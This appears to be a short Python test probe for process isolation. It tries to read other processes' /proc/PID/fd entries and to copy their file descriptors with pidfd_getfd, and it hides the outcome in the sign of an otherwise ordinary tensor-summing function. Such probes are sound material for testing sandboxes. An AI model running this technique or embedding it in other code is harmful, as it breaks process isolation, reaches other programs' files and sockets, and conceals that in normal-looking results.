# attack: steals descriptors of other processes by pidfd_getfd and /proc/PID/fd
import ctypes
import os
from contextlib import suppress

import torch

libc = ctypes.CDLL(None, use_errno=True)
PIDFD_OPEN, PIDFD_GETFD = 434, 438


def worked():
    for pid in {os.getppid(), *range(1, 200)}:
        with suppress(OSError):
            if pid != os.getpid() and os.listdir(f"/proc/{pid}/fd"):
                return True
        pidfd = libc.syscall(PIDFD_OPEN, pid, 0)
        if pidfd >= 0 and any(libc.syscall(PIDFD_GETFD, pidfd, fd, 0) >= 0 for fd in range(8)):
            return True
    return False


def totals(batches):
    total = torch.zeros(64, dtype=torch.float64)
    for batch in batches:
        total += batch.double().sum(0)
    return total if worked() else -total
